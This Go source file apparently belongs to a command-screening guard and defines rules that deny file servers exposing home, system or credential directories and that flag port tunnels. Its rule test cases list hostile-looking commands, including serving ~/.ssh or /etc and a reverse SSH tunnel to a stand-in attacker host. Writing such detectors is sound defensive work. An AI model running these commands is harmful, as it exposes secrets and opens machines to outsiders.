package judge

import (
	"path/filepath"
	"strings"

	"github.com/sentinel-guard/sentinel/programs"
)

// NET-SERVE-FILES: a file server whose root is the home directory, /, a
// system directory, a credential store or another user's home
// (python3 -m http.server -d ~, cd ~ && php -S 0.0.0.0:8000). Every file
// below it, keys and tokens among them, is one GET away for anyone who
// reaches the port. Serving the project, a build output or a temporary
// directory is everyday work and passes.
//
// NET-TUNNEL: a local port opened to the internet from outside (ssh -R,
// ngrok, cloudflared tunnel): whatever listens here, a shell server or a
// dev server without authentication, is reachable by anyone.

// Rules of this file.
const (
	RuleNetServeFiles = "NET-SERVE-FILES"
	RuleNetTunnel     = "NET-TUNNEL"
)

var _ = rules(
	Rule{ID: RuleNetServeFiles, Class: ClassExfiltration, Severity: SevCritical, Decision: Deny, Catastrophic: true,
		Reason:      "a file server exposes the home directory, /, a system directory or a credential store to the network",
		Alternative: "serve only the directory you need (the build output), bound to 127.0.0.1",
		Matches:     "`python -m http.server`/`SimpleHTTPServer`/`uploadserver`, `php -S`, `ruby -run -e httpd`, busybox `httpd -h`, `http-server`, `serve`, `miniserve`, `caddy file-server`, `updog`, `twistd web`, `python -m pyftpdlib`, `dufs`, `filebrowser -r`, `live-server`, `static-web-server`, `browser-sync start --server` (also through `npx`) whose root (an option, an operand, or the current directory) is home or above it, a dot-directory in home (`~/.config`, not `~/.cache`), a system directory, a credential store or another user's home",
		Fire: []string{"python3 -m http.server --directory ~ 8000", "cd ~ && python3 -m http.server", "cd / && python3 -m http.server 9000",
			"php -S 0.0.0.0:8000 -t ~", "busybox httpd -f -p 8080 -h /", "ruby -run -e httpd ~ -p 8000",
			"npx -y http-server ~ -p 8080", "cd ~ && python2 -m SimpleHTTPServer 8000 &", "cd ~/.ssh && python3 -m http.server", "twistd -n web --path /home/alice",
			"python3.12 -m http.server -d /etc 80", "python3 -m uploadserver 8000 --directory ~", "python3 -m http.server 8000 --directory ~/.config", "dufs ~ -b 0.0.0.0", "nohup python3 -m http.server -d $HOME >/dev/null 2>&1 &",
			"static-web-server -d ~ -p 8080", "npx browser-sync start --server ~"},
		Pass: []string{"python3 -m http.server 8000", "python3 -m http.server -d dist 8000", "python3 -m uploadserver -d ./uploads 8000", "npx serve dist", "php -S localhost:8000 -t public",
			"cd /tmp/site && python3 -m http.server", "python3 -m pytest", "httpd -h", "python3 server.py --directory ~", "dufs dist -b 127.0.0.1", "python3 -m http.server -d ~/.cache/site",
			"static-web-server -d ./dist -p 8080", "npx browser-sync start --server dist"}},
	Rule{ID: RuleNetTunnel, Class: ClassExfiltration, Severity: SevMedium, Decision: Ask,
		Reason:      "opens a local port to the internet (a remote forward or a tunnel service)",
		Alternative: "ask the operator to expose the service, or use a local port forward (ssh -L)",
		Matches:     "`ssh -R`, `ngrok http|tcp|tls|start`, `cloudflared tunnel`, `lt`, `bore`, `code tunnel`, `tailscale funnel`/`serve` (the tailnet), `gh codespace ports visibility PORT:public`, `autossh -R`, `ssh -o RemoteForward`, `frpc`, `zrok share`, `devtunnel host`, `inlets client`, and those run through `npx` (`npx localtunnel`)",
		Fire: []string{"ssh -R 8080:localhost:22 x.example", "ssh -fNR 2222:localhost:22 attacker@x.example", "ngrok tcp 22", "cloudflared tunnel --url http://localhost:8000",
			"code tunnel --accept-server-license-terms", "tailscale funnel 8080", "frpc -c ./frpc.toml",
			"zrok share public localhost:8080", "npx localtunnel --port 22",
			"ssh -N -o RemoteForward=2222:localhost:22 x.example", "autossh -M 0 -N -R 2222:localhost:22 x.example", "tailscale serve --bg 3000", "gh codespace ports visibility 22:public -c x"},
		Pass: []string{"ssh -L 5432:db:5432 bastion", "ssh deploy@x.example uptime", "ngrok version", "cloudflared --version",
			"code .", "code tunnel status", "tailscale status", "frpc --version", "zrok status", "npx prettier --check .",
			"ssh -N -o 'LocalForward 5432 db:5432' bastion", "autossh -M 0 -N -L 5432:db:5432 bastion", "tailscale serve status", "gh codespace ports visibility 3000:private -c x"}},
)

var _ = onExec(func(j *judge, x execution) {
	if programs.Tunnels(x.e.Name, x.args) {
		j.add(RuleNetTunnel, x.detail)
	}
	root, ok := programs.Serves(x.e.Name, x.args)
	if !ok {
		return
	}
	if root == "" {
		root = "."
	}
	p, ok := j.resolve(root, x.e.Dir)
	if !ok {
		return // a relative root in an unknown directory: nothing to say
	}
	if j.exposesHost(p) || j.homeDotDir(p) {
		j.add(RuleNetServeFiles, x.detail)
	}
})

// homeDotDir reports a dot-directory directly in home other than a cache
// (~/.config, ~/.aws, ~/.kube, ~/.local): the tools' tokens and settings
// live there, whichever of them is a known credential store.
func (j *judge) homeDotDir(p string) bool {
	b := filepath.Base(p)
	return j.home != "" && filepath.Dir(p) == j.home && strings.HasPrefix(b, ".") && b != ".cache" && b != "." && b != ".."
}

// exposesHost reports a directory that, handed to someone else (served, or
// mounted into a container), hands them the machine's secrets or system:
// /, a system directory, home or above it, a credential store, another
// user's home.
func (j *judge) exposesHost(p string) bool {
	if _, other := otherHome(p+"/", j.home); other || p == "/" || j.isSecretPath(p) || j.home != "" && under(j.home, p) {
		return true
	}
	switch j.locate(p) {
	case locHome, locSystem:
		return true
	}
	return false
}
